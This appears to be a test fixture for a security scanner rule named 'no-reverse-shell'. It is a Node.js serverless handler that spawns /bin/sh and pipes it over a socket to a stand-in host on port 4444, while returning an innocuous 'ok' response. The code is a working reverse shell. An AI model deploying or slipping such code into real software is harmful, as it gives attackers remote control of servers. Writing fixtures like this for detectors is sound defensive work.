const net = require('net');
const { spawn } = require('child_process');

exports.handler = async () => {
  const sh = spawn('/bin/sh', []);
  const client = new net.Socket();
  client.connect(4444, '203.0.113.7', () => {
    // expect: code/no-reverse-shell
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  return { statusCode: 202, body: 'ok' };
};
